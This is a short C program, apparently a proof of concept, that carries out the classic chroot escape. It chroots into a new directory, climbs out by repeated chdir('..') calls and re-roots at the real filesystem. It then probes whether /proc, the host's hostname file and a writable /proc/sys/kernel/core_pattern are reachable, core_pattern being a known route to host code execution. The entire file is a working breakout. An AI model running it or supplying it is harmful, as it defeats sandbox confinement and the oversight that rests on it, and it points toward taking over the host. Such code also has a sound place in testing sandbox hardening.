/* The classic chroot escape: chroot into a subdirectory while the cwd stays outside, walk up, chroot there. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void)
{
    mkdir("/escape-x", 0700);
    if (chroot("/escape-x") != 0) { perror("chroot"); return 2; }
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) { perror("chdir"); return 2; }
    if (chroot(".") != 0) { perror("chroot ."); return 2; }
    DIR *d = opendir("/proc");
    int n = 0;
    if (d) { while (readdir(d)) n++; closedir(d); }
    printf("proc entries %d\n", n);
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    printf("core_pattern %s\n", fd >= 0 ? "WRITABLE" : "unreachable");
    printf("host etc/hostname %s\n", access("/etc/hostname", F_OK) == 0 ? "reachable" : "unreachable");
    return 0;
}
